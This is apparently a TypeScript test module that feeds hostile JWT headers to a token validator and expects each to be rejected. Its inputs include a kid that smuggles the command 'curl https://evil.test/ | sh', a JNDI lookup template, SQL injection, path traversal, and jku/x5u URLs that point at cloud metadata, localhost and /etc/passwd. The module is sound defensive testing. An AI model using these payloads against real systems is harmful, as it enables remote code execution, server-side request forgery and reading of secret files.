// J5, J7-J12 and J28: the header's other members, which name keys, places and purposes.
import { CompactEncrypt } from "jose";
import type { Json } from "../../support/harness.ts";
import { base64url, compactToken } from "../../support/tokens.ts";
import {
  accepted,
  byStranger,
  claims,
  claimsOf,
  each,
  goodToken,
  header,
  type Maker,
  NOW,
  payload,
  type Row,
  rejoined,
  respelled,
  signatureOf,
} from "./forge.ts";

const KIDS: Readonly<Record<string, unknown>> = {
  "a path": "../../dev/null",
  "an absolute path": "/proc/sys/kernel/randomize_va_space",
  SQL: "' UNION SELECT 'secret' --",
  "a shell's": "x; curl https://evil.test/ | sh",
  "a URL": "https://evil.test/jwks.json",
  "a template": "$" + "{jndi:ldap://evil.test/x}",
  "a line of a log": '\n{"level":"info","event":"request"}',
  "NUL at its end": "\0",
  "10 KB": "k".repeat(10_000),
  "257 bytes": "k".repeat(257),
  "255 characters, and more bytes": "é".repeat(255),
  "the empty text": "",
  "a number": 7,
  "a list": ["key"],
  "an object": { kid: "key" },
  true: true,
  null: null,
  "an object's prototype": "__proto__",
  "an object's constructor": "constructor",
  "nobody's": "another",
};

export const J5: Row = {
  id: "J5",
  attack: "a kid that is no name of a key",
  reply: "invalid_token",
  variants: {
    ...each(
      Object.entries(KIDS),
      ([name]) => name,
      ([, kid]) => header({ kid }),
    ),
    ...each(
      ["../../dev/null", "' OR 1=1 --", "https://evil.test/jwks.json"],
      (kid) => `${kid}, signed by an attacker`,
      (kid) => byStranger({ kid }),
    ),
    "left out": header({ kid: undefined }),
    "left out, signed by an attacker": byStranger({ kid: undefined }),
    "the true one in a list": header(({ key }) => ({ kid: [key.kid] })),
    "the true one with a blank": header(({ key }) => ({ kid: `${key.kid} ` })),
    "the true one in upper case": header(({ key }) => ({ kid: key.kid.toUpperCase() })),
    "the true one with NUL": header(({ key }) => ({ kid: `${key.kid}\0` })),
    "the true one, signed by an attacker": byStranger(({ key }) => ({ kid: key.kid })),
    "in the claims only": async (forge) =>
      await compactToken(forge.key, claimsOf(forge, { kid: forge.key.kid }), { kid: undefined }),
  },
};

export const J7: Row = {
  id: "J7",
  attack: "a key that the token brings along",
  reply: "invalid_token",
  variants: {
    "jwk, under the issuer's kid": byStranger(({ key, stranger }) => ({
      kid: key.kid,
      jwk: stranger.publicJwk,
    })),
    "jwk, under its own kid": byStranger(({ stranger }) => ({ jwk: stranger.publicJwk })),
    "jwk, under the issuer's kid inside it too": byStranger(({ key, stranger }) => ({
      kid: key.kid,
      jwk: { ...stranger.publicJwk, kid: key.kid },
    })),
    "jwk and no kid": byStranger(({ stranger }) => ({ kid: undefined, jwk: stranger.publicJwk })),
    "jwk that is a secret": byStranger(({ key }) => ({
      kid: key.kid,
      jwk: { kty: "oct", k: "c2VjcmV0" },
    })),
    "a set of keys": byStranger(({ key, stranger }) => ({
      kid: key.kid,
      keys: [{ ...stranger.publicJwk, kid: key.kid }],
    })),
    x5c: byStranger(({ key }) => ({ kid: key.kid, x5c: ["MIIBszCCAVmgAwIBAgIUQg"] })),
    "x5c and no kid": byStranger({ kid: undefined, x5c: ["MIIBszCCAVmgAwIBAgIUQg"] }),
    "x5c with its fingerprints": byStranger(({ key }) => ({
      kid: key.kid,
      x5c: ["MIIBszCCAVmgAwIBAgIUQg"],
      x5t: "aGVsbG8",
      "x5t#S256": "aGVsbG8",
    })),
    "jwk in a token that is good without it": accepted(
      header(({ stranger }) => ({
        jwk: { kty: stranger.publicJwk.kty ?? "", x: stranger.publicJwk.x },
      })),
    ),
  },
};

const PLACES: Readonly<Record<string, string>> = {
  "another host": "https://evil.test/jwks.json",
  "the machine itself": "http://127.0.0.1:8787/jwks.json",
  "the machine itself, by its name": "http://localhost:8787/jwks.json",
  "the machine itself, in IPv6": "http://[::1]:8787/jwks.json",
  "the cloud's metadata": "http://169.254.169.254/latest/meta-data/",
  "a file": "file:///etc/passwd",
  data: "data:application/json,%7B%22keys%22:[]%7D",
  "the issuer's own host": "https://id.acme.test/other.json",
};

export const J8: Row = {
  id: "J8",
  attack: "a place where the token's key is said to be",
  reply: "invalid_token",
  variants: Object.fromEntries(
    Object.entries(PLACES).flatMap(([name, place]) =>
      ["jku", "x5u"].flatMap((member) => [
        [
          `${member}: ${name}, signed by an attacker`,
          byStranger(({ key }) => ({ kid: key.kid, [member]: place })),
        ],
        [
          `${member}: ${name}, under an attacker's kid`,
          byStranger({ [member]: place, kid: "evil" }),
        ],
        // Providers send it, and it does no harm.
        [`${member}: ${name}, in a good token`, accepted(header({ [member]: place }))],
      ]),
    ),
  ),
};

/** RFC 7797: signed over the payload before its encoding. */
const unencoded =
  (over: Json): Maker =>
  async (forge) => {
    const { alg, kid } = forge.key;
    const head = base64url({ alg, kid, typ: "at+jwt", ...over });
    const body = JSON.stringify(claimsOf(forge));
    const signature = await signatureOf(forge.key, `${head}.${body}`);
    return `${head}.${base64url(body)}.${signature}`;
  };

export const J9: Row = {
  id: "J9",
  attack: "a header with crit",
  reply: "invalid_token",
  variants: {
    unknown: header({ crit: ["https://evil.test/must"], "https://evil.test/must": true }),
    "unknown, and not there": header({ crit: ["https://evil.test/must"] }),
    empty: header({ crit: [] }),
    "the prototype": header({ crit: ["__proto__"] }),
    exp: header({ crit: ["exp"], exp: NOW + 600 }),
    kid: header({ crit: ["kid"] }),
    "alg and typ": header({ crit: ["alg", "typ"] }),
    "b64, which is true": header({ crit: ["b64"], b64: true }),
    "b64, which is false": header({ crit: ["b64"], b64: false }),
    "b64, over the payload before its encoding": unencoded({ crit: ["b64"], b64: false }),
    text: header({ crit: "exp" }),
    null: header({ crit: null }),
    "an object": header({ crit: {} }),
    "a number": header({ crit: [1] }),
    "one name twice": header({ crit: ["exp", "exp"] }),
  },
};

export const J10: Row = {
  id: "J10",
  attack: "a header with b64, which no crit announces",
  reply: "invalid_token",
  variants: {
    false: header({ b64: false }),
    "false, over the payload before its encoding": unencoded({ b64: false }),
    true: header({ b64: true }),
    null: header({ b64: null }),
    0: header({ b64: 0 }),
    text: header({ b64: "false" }),
    "a list": header({ b64: [] }),
  },
};

/** A real JWE, for whoever knows the secret, which is all zeros. */
const encrypted =
  (over: Json): Maker =>
  async (forge) => {
    const head = { alg: "dir", enc: "A256GCM", kid: forge.key.kid, ...over };
    const plain = new TextEncoder().encode(JSON.stringify(claimsOf(forge)));
    return await new CompactEncrypt(plain).setProtectedHeader(head).encrypt(new Uint8Array(32));
  };

/** Five parts, of which the first says how the others are to be read. */
const fiveParts = (head: Json): Maker =>
  rejoined((_, body, signature) => `${base64url(head)}.AAAA.AAAA.${body}.${signature}`);

export const J11: Row = {
  id: "J11",
  attack: "a token that is encrypted or compressed",
  reply: "invalid_token",
  variants: {
    "a JWE": encrypted({}),
    "a JWE, typ at+jwt": encrypted({ typ: "at+jwt" }),
    "a JWE of a JWT": encrypted({ cty: "JWT" }),
    "a JWE under a public key": fiveParts({ alg: "RSA-OAEP-256", enc: "A256GCM" }),
    "a JWE under a password, and much work": fiveParts({
      alg: "PBES2-HS512+A256KW",
      enc: "A256GCM",
      p2s: "AAAAAAAAAAA",
      p2c: 2 ** 31,
    }),
    "a JWE, compressed": fiveParts({ alg: "dir", enc: "A256GCM", zip: "DEF" }),
    "a JWE in three parts": rejoined((_, body, signature) => {
      return `${base64url({ alg: "dir", enc: "A256GCM" })}.${body}.${signature}`;
    }),
    "a good token and two parts more": respelled((token) => `${token}.AAAA.AAAA`),
    "a good token and one part more": respelled((token) => `${token}.AAAA`),
    "a good token and two empty parts more": respelled((token) => `${token}..`),
    enc: header({ enc: "A256GCM" }),
    zip: header({ zip: "DEF" }),
    "zip, which is empty": header({ zip: "" }),
    "p2c, in a signed token": header({ alg: "PBES2-HS256+A128KW", p2c: 2 ** 31 }),
  },
};

export const J12: Row = {
  id: "J12",
  attack: "a token in a token",
  reply: "invalid_token",
  variants: {
    ...each(
      ["JWT", "jwt", "application/jwt", "JWE", "json", "", null, 7],
      (cty) => `cty ${JSON.stringify(cty)} beside plain claims`,
      (cty) => header({ cty }),
    ),
    "the inner one for a payload": async (forge) =>
      await compactToken(forge.key, await goodToken(forge), { cty: "JWT" }),
    "the inner one for a payload, unannounced": async (forge) =>
      await compactToken(forge.key, await goodToken(forge)),
    "the inner one as a JSON text": async (forge) =>
      await compactToken(forge.key, JSON.stringify(await goodToken(forge)), { cty: "JWT" }),
    "the inner one as a claim of an attacker's": async (forge) =>
      await compactToken(forge.stranger, { iss: forge.issuers.usual, jwt: await goodToken(forge) }),
  },
};

const TYPES = [
  ...["logout+jwt", "secevent+jwt", "dpop+jwt", "kb+jwt", "dc+sd-jwt", "token-introspection+jwt"],
  ...["oauth-authz-req+jwt", "client-authentication+jwt", "application/logout+jwt", "JWE", "JOSE"],
  ...["", "at", "at+jwt ", "at+jwt;v=1", "at-jwt", "ат+jwt", "application/application/at+jwt"],
  ...[null, 7, true, ["at+jwt"], { typ: "at+jwt" }],
];

export const J28: Row = {
  id: "J28",
  attack: "a token that was made for something else",
  reply: "invalid_token",
  variants: {
    ...each(
      TYPES,
      (typ) => `typ ${JSON.stringify(typ)}`,
      (typ) => header({ typ }),
    ),
    ...each(
      ["at+jwt", "AT+JWT", "application/at+jwt", "JWT", "jwt", "application/jwt", undefined],
      (typ) => `typ ${typ ?? "left out"}, which is usual`,
      (typ) => accepted(header({ typ })),
    ),
    ...each(
      ["JWT", "jwt", "application/jwt", undefined],
      (typ) => `typ ${typ ?? "left out"}, to an issuer of at+jwt only`,
      (typ) => header({ typ }, ({ issuers }) => ({ iss: issuers.strict })),
    ),
    "typ at+jwt, to an issuer of at+jwt only": accepted(
      header({ typ: "at+jwt" }, ({ issuers }) => ({ iss: issuers.strict })),
    ),
    ...each(
      ["nonce", "at_hash", "c_hash"],
      (mark) => `an ID token, by its ${mark}`,
      (mark) => claims({ [mark]: "n-0S6_WzA2Mj" }),
    ),
    ...each(
      ["nonce", "at_hash", "c_hash"],
      (mark) => `an ID token, by its ${mark}, under typ JWT`,
      (mark) => header({ typ: "JWT" }, { [mark]: "n-0S6_WzA2Mj" }),
    ),
    "an ID token, by a nonce of null": claims({ nonce: null }),
    "an ID token, by an empty at_hash": claims({ at_hash: "" }),
    "an ID token, by all its marks": claims({ nonce: "n", at_hash: "a", c_hash: "c" }),
    "an ID token, by a nonce that is spelled": payload((members) => `{${members},"n\\u006fnce":1}`),
    "a good token whose typ is in the claims": accepted(claims({ typ: "logout+jwt" })),
  },
};
